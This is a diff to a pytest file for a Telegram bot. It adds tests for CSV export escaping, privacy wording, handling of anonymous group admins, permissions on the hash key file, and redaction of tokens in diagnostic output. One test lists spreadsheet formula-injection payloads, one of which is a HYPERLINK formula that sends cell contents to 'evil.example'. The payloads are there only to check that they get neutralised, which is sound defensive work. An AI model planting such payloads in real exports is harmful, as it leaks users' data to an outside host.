@@ -27,11 +27,11 @@ from types import SimpleNamespace
 import pytest
 import yaml
 
-from botproc import ROOT, TOKEN, BotProcess, running_bot, wait_until
+from botproc import ROOT, SECRET, TOKEN, BotProcess, running_bot, wait_until
 from standin import BotAPIStandIn
 from test_store import _can_enforce_modes, _drop_file_capabilities, abstained, exclusively_locked
 
-from bot.store import DB_FILE, Store
+from bot.store import DB_FILE, KEY_FILE, Store
 
 ADMIN, ADMIN_2, ADMIN_3 = 900, 901, 902  # several admins: each user may send only 8 messages in 30 s
 GROUP = -1001234567000
@@ -75,8 +75,7 @@ def db(data_dir: Path) -> Iterator[sqlite3.Connection]:
 
 
 def user_hash(data_dir: Path, user_id: int) -> str:
-    with db(data_dir) as conn:
-        (key,) = conn.execute("SELECT value FROM meta WHERE key = 'user_hash_key'").fetchone()
+    key = (data_dir / KEY_FILE).read_text().strip()
     return Store.user_hash(SimpleNamespace(_key=bytes.fromhex(key)), user_id)
 
 
@@ -233,6 +232,19 @@ def test_shell_reports_respect_the_configured_retention(tmp_path):
         assert conn.execute("SELECT text FROM questions").fetchall() == [("asked 200 days ago",)]
 
 
+def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(tmp_path):
+    data_dir = tmp_path / "data"
+    store = Store(data_dir)
+    hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1"]
+    for text in hostile + ["what is k-pop"]:
+        store.record_question(abstained(text), "private", 1)
+    store.close()
+    done = shell("unanswered", "--csv", data_dir=data_dir)
+    assert done.returncode == 0, done.stderr
+    cells = [row[1] for row in list(csv.reader(io.StringIO(done.stdout)))[1:]]
+    assert sorted(cells) == sorted(["'" + text for text in hostile] + ["what is k-pop"])
+
+
 # --- privacy ---------------------------------------------------------------------------------------
 
 
@@ -240,6 +252,7 @@ def test_privacy_says_what_is_kept_and_for_how_long(bot):
     text = ask(bot, 7010, "/privacy")["text"]
     assert "30 days" in text, "the retention period is BOT_RETENTION_DAYS"
     assert "/forget" in text and "No names" in text and "hash" in text
+    assert "pseudonymous" in text, "a keyed hash links rows to a user for whoever holds the key: not anonymous"
 
 
 def test_forget_deletes_the_users_rows_and_only_theirs(bot):
@@ -275,6 +288,30 @@ def test_forget_also_covers_an_inline_query_still_settling(bot):
     with db(bot.data_dir) as conn:
         left = conn.execute("SELECT text FROM questions WHERE user_hash = ?", (digest,)).fetchall()
     assert left == [], "a question stored after the user asked to be forgotten"
+
+
+ANONYMOUS_ADMIN = 1087968824  # GroupAnonymousBot: every group's anonymous admins arrive as this one user
+
+
+def test_anonymous_admins_of_two_groups_are_kept_apart_and_cannot_forget_for_each_other(bot):
+    one, two = GROUP - 20, GROUP - 21
+    as_group = lambda chat: {"sender_chat": {"id": chat, "type": "supergroup", "title": "Test group"}, "chat_type": "supergroup"}
+    ask(bot, one, "/ask how to bake sourdough bread", user_id=ANONYMOUS_ADMIN, **as_group(one))
+    ask(bot, two, "/ask can you fix my bicycle chain", user_id=ANONYMOUS_ADMIN, **as_group(two))
+    with db(bot.data_dir) as conn:
+        kept = dict(conn.execute("SELECT text, user_hash FROM questions WHERE text IN ('how to bake sourdough bread', 'can you fix my bicycle chain')"))
+    assert kept == {"how to bake sourdough bread": user_hash(bot.data_dir, one), "can you fix my bicycle chain": user_hash(bot.data_dir, two)}
+    refusal = ask(bot, one, "/forget", user_id=ANONYMOUS_ADMIN, **as_group(one))["text"]
+    assert "many people share" in refusal and "private chat" in refusal
+    assert {"how to bake sourdough bread", "can you fix my bicycle chain"} <= set(stored_texts(bot.data_dir)), "nothing deleted"
+
+
+def test_the_hash_key_is_a_0600_file_beside_the_store(bot):
+    ask(bot, 7015, "/privacy")
+    key_file = bot.data_dir / KEY_FILE
+    assert key_file.stat().st_mode & 0o777 == 0o600
+    files = b"".join(p.read_bytes() for p in bot.data_dir.iterdir() if p.name.startswith(DB_FILE))
+    assert key_file.read_text().strip().encode() not in files
 
 
 def test_no_name_username_or_raw_user_id_is_stored(bot):
@@ -497,6 +534,27 @@ def test_doctor_reports_a_set_webhook(tmp_path):
             assert json.load(answer)["ok"]
         done = shell("doctor", data_dir=tmp_path / "data", api=api)
     assert "webhook set to https://example.org/telegram" in done.stdout
+
+
+def test_doctor_never_prints_the_token_of_a_webhook_url_that_holds_it(tmp_path):
+    """A common set-up puts the token in the webhook path; doctor reports the URL without it."""
+    with BotAPIStandIn(TOKEN) as api:
+        body = urllib.parse.urlencode({"url": f"https://example.org/{TOKEN}"}).encode()
+        with urllib.request.urlopen(f"{api.base_url}{TOKEN}/setWebhook", body, timeout=10) as answer:
+            assert json.load(answer)["ok"]
+        done = shell("doctor", data_dir=tmp_path / "data", api=api)
+    assert "webhook set to https://example.org/<token>" in done.stdout, done.stdout
+    assert SECRET not in done.stdout + done.stderr
+
+
+@pytest.mark.parametrize("setting", ["BOT_ADMINS", "LOG_LEVEL", "BOT_ALLOWED_CHATS", "BOT_RETENTION_DAYS", "BOT_WEBHOOK_URL"])
+@pytest.mark.parametrize("command", ["run", "doctor"])
+def test_a_token_pasted_into_the_wrong_setting_is_not_echoed(tmp_path, setting, command):
+    value = f"http://bot.example.org/{TOKEN}" if setting == "BOT_WEBHOOK_URL" else TOKEN
+    done = shell(command, data_dir=tmp_path / "data", **{setting: value})
+    assert done.returncode != 0
+    assert setting in done.stdout + done.stderr, "the error still names the setting to fix"
+    assert SECRET.lower() not in (done.stdout + done.stderr).lower(), "not even case-folded (LOG_LEVEL is upper-cased)"
 
 
 @pytest.mark.parametrize(
